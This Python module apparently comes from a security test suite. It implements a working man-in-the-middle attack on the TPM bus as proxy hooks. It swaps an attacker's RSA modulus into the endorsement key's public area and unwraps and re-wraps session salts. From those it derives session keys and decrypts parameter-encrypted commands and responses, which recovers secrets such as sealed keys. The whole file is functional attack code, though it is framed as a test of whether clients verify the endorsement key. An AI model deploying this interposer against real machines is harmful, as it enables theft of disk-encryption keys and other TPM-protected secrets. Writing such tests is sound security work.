"""A working man-in-the-middle on the TPM bus, as proxy hooks.

What it does, exchange by exchange:

1. ``ReadPublic(EK)``: answers with the real EK's public area in which the RSA
   modulus is the attacker's, and the matching Name (and qualified Name), so a
   client that checks Name == H(public) is satisfied.
2. ``StartAuthSession`` salted with the EK handle: decrypts ``encryptedSalt``
   with the attacker's private key (RSA-OAEP SHA-256, label "SECRET\\0"). If that
   works (the client used the substituted key) it re-encrypts the salt to the
   real EK and relays, so the TPM accepts the session; from the response's
   nonceTPM and the command's nonceCaller it computes sessionKey = KDFa(SHA-256,
   salt, "ATH", nonceTPM, nonceCaller). If the salt was encrypted to the real EK
   it cannot decrypt it; it still tracks the session with a guessed (all-zero)
   salt and runs the same decryption, which yields garbage.
3. Every later command/response using a tracked session: rolls the session's
   nonces and, when the decrypt/encrypt attribute is set, decrypts the first
   parameter with key ‖ IV = KDFa(SHA-256, sessionKey ‖ authValue, "CFB",
   nonceNewer, nonceOlder, 256) (authValue of the entity: empty for an SRK and
   for sealed objects without a PIN).

Everything it decrypted is in :attr:`ManInTheMiddle.recovered`.
"""

from __future__ import annotations

import functools
import hashlib
from dataclasses import dataclass, field

from cryptography.hazmat.primitives.asymmetric import rsa

from attacks.crypto import cfb_crypt, session_key, unwrap_salt, wrap_salt
from tpmseal.records import replace
from tpmseal.sniff.capture.hooks import HookContext, Verdict, build_command, success_response
from tpmseal.wire import commands as cmds
from tpmseal.wire.commands import REGISTRY
from tpmseal.wire.constants import TPM_CC, TPM_RH, TPM_ST, TPMA_SESSION
from tpmseal.wire.frames import AuthCommand, AuthResponse, parse_header, split_command
from tpmseal.wire.marshal import Reader, u32
from tpmseal.wire.structures import Public

HEADER = 10


@functools.cache
def attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's RSA-2048 key (generated once per test session)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def substituted(real: Public, key: rsa.RSAPrivateKey) -> Public:
    """*real* (an RSA EK public area) with the attacker's modulus."""
    n = key.public_key().public_numbers().n
    return replace(real, unique=n.to_bytes(key.key_size // 8, "big"))


def qualified_name(name: bytes, hierarchy: int = TPM_RH.ENDORSEMENT) -> bytes:
    """QN of a primary key (Part 1 §16): nameAlg ‖ H(QN(hierarchy) ‖ Name), QN(h) = h."""
    return name[:2] + hashlib.sha256(u32(hierarchy) + name).digest()


@dataclass
class Tracked:
    """A session the attacker follows."""

    handle: int
    key: bytes = field(repr=False)
    key_known: bool
    nonce_tpm: bytes = field(repr=False)
    key_bits: int = 128


@dataclass(frozen=True)
class Recovered:
    """A parameter the attacker decrypted."""

    command: str
    direction: str  # "command" or "response"
    data: bytes
    key_known: bool

    def __repr__(self) -> str:  # never show what was recovered
        return (f"Recovered({self.command} {self.direction}, {len(self.data)} bytes, "
                f"key_known={self.key_known})")


@dataclass
class _InFlight:
    code: int
    sessions: list[tuple[Tracked | None, AuthCommand]]
    start_salt: bytes | None = None
    start_nonce: bytes = b""
    start_key_known: bool = False
    start_key_bits: int = 128


def _command_sessions(data: bytes) -> tuple[list[AuthCommand], int]:
    """The auth area of a command frame and the offset of its parameters."""
    cls = REGISTRY.get(parse_header(data).code)
    if cls is None:
        return [], len(data)
    frame = split_command(data, len(cls.layout().handles))
    return frame.auths, frame.params_offset


def _response_parts(data: bytes, code: int, n_sessions: int) -> tuple[bytes, list[AuthResponse]]:
    """Parameter area and auth area of a successful response with sessions."""
    cls = REGISTRY[code]
    r = Reader(data, HEADER + 4 * len(cls.RESPONSE.layout().handles))
    size = r.u32("parameterSize")
    params = r.raw(size, "parameters")
    return params, [AuthResponse.unmarshal(r) for _ in range(n_sessions)]


@dataclass
class ManInTheMiddle:
    """The interposer's state; pass :meth:`on_command`/:meth:`on_response` to a proxy."""

    real_ek: Public
    ek_handle: int
    key: rsa.RSAPrivateKey = field(default_factory=attacker_key)
    #: substitute ReadPublic(EK) responses (step 1)
    substitute: bool = True
    sessions: dict[int, Tracked] = field(default_factory=dict)
    recovered: list[Recovered] = field(default_factory=list)
    read_publics_substituted: int = 0
    salts_unwrapped: int = 0
    salts_opaque: int = 0
    _inflight: _InFlight | None = None

    @property
    def fake_ek(self) -> Public:
        return substituted(self.real_ek, self.key)

    # ------------------------------------------------------------------ commands

    def on_command(self, ctx: HookContext) -> Verdict:
        self._inflight = None
        if parse_header(ctx.command).tag not in (TPM_ST.SESSIONS, TPM_ST.NO_SESSIONS):
            return None
        if ctx.code == TPM_CC.StartAuthSession:
            return self._start(ctx)
        auths, offset = _command_sessions(ctx.command)
        flight = _InFlight(ctx.code, [(self.sessions.get(a.session_handle), a) for a in auths])
        self._inflight = flight
        for s, a in flight.sessions:
            if s is not None and a.attributes & TPMA_SESSION.decrypt:
                size = int.from_bytes(ctx.command[offset : offset + 2], "big")
                cipher = ctx.command[offset + 2 : offset + 2 + size]
                plain = cfb_crypt(s.key, a.nonce, s.nonce_tpm, cipher, key_bits=s.key_bits)
                self.recovered.append(Recovered(ctx.name, "command", plain, s.key_known))
        return None

    def _start(self, ctx: HookContext) -> Verdict:
        cmd, _ = ctx.parse()
        assert isinstance(cmd, cmds.StartAuthSession)
        if cmd.tpm_key != self.ek_handle or not cmd.encrypted_salt:
            return None
        bits = cmd.symmetric.key_bits or 128
        salt = unwrap_salt(self.key, cmd.encrypted_salt)
        if salt is None:  # encrypted to the real EK: opaque to the attacker
            self.salts_opaque += 1
            self._inflight = _InFlight(ctx.code, [], bytes(32), cmd.nonce_caller, False, bits)
            return None
        self.salts_unwrapped += 1
        self._inflight = _InFlight(ctx.code, [], salt, cmd.nonce_caller, True, bits)
        real = self.real_ek.unique
        assert isinstance(real, bytes)
        real_key = rsa.RSAPublicNumbers(65537, int.from_bytes(real, "big")).public_key()
        return build_command(replace(cmd, encrypted_salt=wrap_salt(real_key, salt)))

    # ----------------------------------------------------------------- responses

    def on_response(self, ctx: HookContext) -> Verdict:
        assert ctx.response is not None
        if int.from_bytes(ctx.response[6:10], "big") != 0:
            return None
        if ctx.code == TPM_CC.ReadPublic:
            return self._read_public(ctx)
        flight = self._inflight
        if flight is None:
            return None
        if ctx.code == TPM_CC.StartAuthSession:
            if flight.start_salt is not None:
                handle = int.from_bytes(ctx.response[10:14], "big")
                nonce_tpm = Reader(ctx.response, 14).tpm2b("nonceTPM")
                key = session_key(flight.start_salt, nonce_tpm, flight.start_nonce)
                self.sessions[handle] = Tracked(handle, key, flight.start_key_known, nonce_tpm,
                                                flight.start_key_bits)
            return None
        if ctx.code == TPM_CC.FlushContext:
            handle = int.from_bytes(ctx.command[10:14], "big")
            self.sessions.pop(handle, None)
            return None
        if not any(s is not None for s, _ in flight.sessions):
            return None
        params, auths = _response_parts(ctx.response, ctx.code, len(flight.sessions))
        for (s, sent), got in zip(flight.sessions, auths, strict=True):
            if s is None:
                continue
            if sent.attributes & TPMA_SESSION.encrypt and len(params) >= 2:
                size = int.from_bytes(params[:2], "big")
                plain = cfb_crypt(s.key, got.nonce, sent.nonce, params[2 : 2 + size],
                                  key_bits=s.key_bits)
                self.recovered.append(Recovered(ctx.name, "response", plain, s.key_known))
            s.nonce_tpm = got.nonce
            if not got.attributes & TPMA_SESSION.continueSession:
                self.sessions.pop(s.handle, None)
        return None

    def _read_public(self, ctx: HookContext) -> Verdict:
        handle = int.from_bytes(ctx.command[10:14], "big")
        if handle != self.ek_handle or not self.substitute:
            return None
        if parse_header(ctx.command).tag != TPM_ST.NO_SESSIONS:
            return None
        fake = self.fake_ek
        self.read_publics_substituted += 1
        return success_response(cmds.ReadPublicResponse(fake, fake.name(),
                                                        qualified_name(fake.name())))

    # -------------------------------------------------------------------- verdict

    def __repr__(self) -> str:  # sessions hold keys, recovered holds plaintext
        return (f"ManInTheMiddle(substituted={self.read_publics_substituted}, "
                f"unwrapped={self.salts_unwrapped}, opaque={self.salts_opaque}, "
                f"recovered={self.recovered!r})")

    def got(self, secret: bytes) -> bool:
        """Whether any decrypted parameter contains *secret*."""
        return any(secret in r.data for r in self.recovered)

    def expect_recovered(self, secret: bytes, what: str) -> None:
        """The attack worked: *secret* is in what the attacker decrypted (never printed)."""
        __tracebackhide__ = True
        if not self.got(secret):
            raise AssertionError(f"the MITM did not recover the secret from {what}: "
                                 f"{self.recovered!r}")

    def expect_nothing(self, secret: bytes) -> None:
        """The attack failed: *secret* is in nothing the attacker decrypted."""
        __tracebackhide__ = True
        if self.got(secret):
            raise AssertionError("the MITM recovered the secret")
